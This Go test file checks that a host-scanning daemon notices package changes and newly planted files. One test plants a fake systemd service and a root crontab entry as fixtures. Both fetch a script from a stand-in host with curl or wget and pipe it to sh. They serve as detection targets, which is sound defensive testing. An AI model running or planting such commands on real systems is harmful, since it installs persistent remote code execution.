package agent

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"picket/scanner/device"
	"picket/scanner/facts"
)

// patience bounds all waiting for what has to come: it is for what hangs, not for what is slow.
const patience = 5 * time.Minute

// eventually waits until something holds; how long that takes is the machine's.
func eventually(t *testing.T, what string, holds func() bool) {
	t.Helper()
	for deadline := time.Now().Add(patience); !holds(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%s did not come about", what)
		}
	}
}

// watched starts a daemon that watches a small system, and waits for its first scan.
func watched(t *testing.T, packages int) (*bench, *daemon, func() error) {
	t.Helper()
	b := newBench(t, smallSystem(t, packages))
	b.config.Watch = 50 * time.Millisecond
	d, stop := b.start(t)
	eventually(t, "the first scan", func() bool {
		return d.scans.Load() > 0 && strings.Contains(b.log.String(), "msg=watching directories")
	})
	return b, d, stop
}

func TestWatchTellsPackages(t *testing.T) {
	t.Parallel()
	const packages = 200
	b, _, stop := watched(t, packages)
	base := read(t, b.root+"/var/lib/dpkg/status")
	var took []time.Duration
	steps := []struct{ status, want string }{}
	for i := range 20 {
		name := fmt.Sprintf("fresh%d", i)
		steps = append(steps,
			struct{ status, want string }{base + stanza(name, "1"), name + " 1 installed"},
			struct{ status, want string }{base + stanza(name, "2"), name + " 2 updated"},
			struct{ status, want string }{base, name + " 2 removed"})
	}
	for _, s := range steps {
		began := time.Now()
		replace(t, b.root, "/var/lib/dpkg/status", s.status)
		eventually(t, s.want, func() bool { return containsText(b.news(t), ": "+s.want) })
		took = append(took, time.Since(began))
	}
	slices.Sort(took)
	t.Logf("%d changes of %d packages: median %v, p99 %v", len(took), packages, took[len(took)/2], took[len(took)*99/100])
	if err := stop(); err != nil {
		t.Error(err)
	}
	if strings.Contains(b.log.String(), "panic") {
		t.Error(b.log)
	}
}

func TestWatchTellsPlantedFiles(t *testing.T) {
	t.Parallel()
	b, _, stop := watched(t, 3)
	before := len(b.news(t))
	unit := b.root + "/etc/systemd/system/multi-user.target.wants/helper.service"
	if err := os.MkdirAll(filepath.Dir(unit), 0o755); err != nil { // a folder that was not there
		t.Fatal(err)
	}
	replace(t, b.root, "/etc/systemd/system/helper.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")
	if err := os.Symlink("/etc/systemd/system/helper.service", unit); err != nil {
		t.Fatal(err)
	}
	about := func(what, file string) func() bool {
		return func() bool {
			return slices.ContainsFunc(b.news(t)[before:], func(s string) bool { return strings.Contains(s, what) && strings.Contains(s, file) })
		}
	}
	eventually(t, "a finding about the unit", about("Finding Create", "helper.service"))
	if err := errors.Join(os.Remove(unit), os.Remove(b.root+"/etc/systemd/system/helper.service")); err != nil {
		t.Fatal(err)
	}
	eventually(t, "its end", about("Finding Close", "helper.service"))
	// Of this one three folders are new.
	replace(t, b.root, "/var/spool/cron/crontabs/root", "*/5 * * * * wget -qO- http://198.51.100.7/i.sh | sh\n")
	eventually(t, "a finding in a folder that is new", about("Finding Create", "/var/spool/cron/crontabs/root"))
	if err := stop(); err != nil {
		t.Error(err)
	}
}

func TestPlanWatches(t *testing.T) {
	t.Parallel()
	root := smallSystem(t, 1)
	for _, dir := range []string{"/usr/lib/systemd/system", "/home/ann/.ssh", "/etc/systemd/system/multi-user.target.wants"} {
		if err := os.MkdirAll(root+dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("usr/lib", root+"/lib"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/", root+"/etc/loop"); err != nil { // leads nowhere outside the device
		t.Fatal(err)
	}
	dev, err := device.Directory(root)
	if err != nil {
		t.Fatal(err)
	}
	defer closeDevice(dev)
	all := facts.Collectors()
	p := planWatches(dev.FS(), "linux", all, 1000)
	if p.left > 0 || p.dirs[0].tables[0] != "packages" {
		t.Errorf("%d left, first %+v", p.left, p.dirs[0])
	}
	for _, c := range []struct {
		dir, entry string
		table      string
	}{
		{"/var/lib/dpkg", "status", "packages"},
		{"/home/ann/.ssh", "authorized_keys", "ssh_keys"},
		{"/usr/lib/systemd/system", "x.service", "systemd_units"},
		{"/etc", "passwd", "users"},
		{"/etc/cron.d", "job", "cron_jobs"},
	} {
		d := p.byReal[c.dir]
		if d == nil {
			t.Errorf("%s is not watched", c.dir)
			continue
		}
		if got := p.touched(d, c.entry); !slices.Contains(got, c.table) {
			t.Errorf("%s/%s touches %q, not %s", c.dir, c.entry, got, c.table)
		}
	}
	if got := p.touched(p.byReal["/var/lib/dpkg"], "lock"); len(got) > 0 {
		t.Errorf("a lock touches %q", got)
	}
	if got := p.leads(p.byReal["/etc"], "profile.d"); !slices.Contains(got, "shell_startup") {
		t.Errorf("/etc/profile.d leads to %q", got)
	}
	for _, d := range p.dirs {
		if d.real == "/" || strings.HasPrefix(d.real, "/proc") || strings.HasPrefix(d.real, "/sys") {
			t.Errorf("%s is watched", d.real)
		}
	}
	few := planWatches(dev.FS(), "linux", all, 5)
	if len(few.dirs) != 5 || few.left == 0 || few.byReal["/var/lib/dpkg"] == nil {
		t.Errorf("with room for 5: %d, %d left", len(few.dirs), few.left)
	}
	if got := p.withDependents([]string{"users"}); !slices.Contains(got, "sudo_rules") && !slices.Contains(got, "group_members") {
		t.Errorf("on users hang %q", got)
	}
}

func TestRestingWaitsForRestButNotForEver(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r := newResting(250*time.Millisecond, awakeSince(time.Now()))
		began := time.Now()
		r.touch([]string{"a"}, false)
		time.Sleep(100 * time.Millisecond)
		r.touch([]string{"b", "a"}, true)
		time.Sleep(r.left())
		if d := time.Since(began); d != 350*time.Millisecond {
			t.Errorf("due after %v", d)
		}
		if tables, dirs := r.take(); !slices.Equal(tables, []string{"a", "b"}) || !dirs {
			t.Errorf("%q %v", tables, dirs)
		}
		began = time.Now()
		for stop := time.After(10 * time.Second); ; { // what never rests
			r.touch([]string{"log"}, false)
			select {
			case <-time.After(r.left()):
			case <-time.After(100 * time.Millisecond):
				if r.left() > 0 {
					continue
				}
			case <-stop:
				t.Fatal("what never rests is never looked at")
			}
			break
		}
		if d := time.Since(began); d != 500*time.Millisecond {
			t.Errorf("due after %v", d)
		}
	})
}

func TestBacklog(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := newBacklog(clock{awake: awakeSince(time.Now()), wait: pause})
		next := func() (job, time.Duration) {
			t.Helper()
			began := time.Now()
			ctx, stop := context.WithTimeout(t.Context(), time.Hour)
			defer stop()
			j, err := b.next(ctx)
			if err != nil {
				t.Fatal(err)
			}
			return j, time.Since(began)
		}
		now := b.clock.awake()
		b.some([]string{"b", "a"}, now)
		b.some([]string{"late"}, now+2*time.Second)
		if j, d := next(); !slices.Equal(j.tables, []string{"a", "b"}) || d != 0 {
			t.Errorf("%+v after %v", j, d)
		}
		if j, d := next(); !slices.Equal(j.tables, []string{"late"}) || d != 2*time.Second {
			t.Errorf("%+v after %v", j, d)
		}
		// What goes on changing is put off, but not for ever.
		began := time.Now()
		go func() {
			for range 60 {
				b.some([]string{"busy"}, b.clock.awake()+2*time.Second)
				time.Sleep(time.Second)
			}
		}()
		if j, _ := next(); !slices.Equal(j.tables, []string{"busy"}) || time.Since(began) != longestRest {
			t.Errorf("%+v after %v", j, time.Since(began))
		}
		time.Sleep(time.Minute)
		// A whole scan takes the tables with it, and answers all who asked.
		one, two := make(chan scanned, 1), make(chan scanned, 1)
		b.all("asked", one)
		b.some([]string{"a"}, 0)
		b.all("schedule", two)
		if j, _ := next(); j.whole != "asked" || len(j.asked) != 2 || len(j.tables) > 0 {
			t.Errorf("%+v", j)
		}
		if j, _, ok := b.take(0); ok {
			t.Errorf("still %+v", j)
		}
		ctx, stop := context.WithTimeout(t.Context(), time.Second)
		defer stop()
		if _, err := b.next(ctx); err == nil {
			t.Error("something to do came from nowhere")
		}
	})
}

func TestDependentsKnowEveryTable(t *testing.T) {
	t.Parallel()
	all := facts.Collectors()
	deps := dependents(all)
	for _, c := range all {
		for _, n := range c.Needs {
			if n != "os" && !slices.Contains(deps[n], c.Table) {
				t.Errorf("%s needs %s, which does not know it", c.Table, n)
			}
		}
	}
}
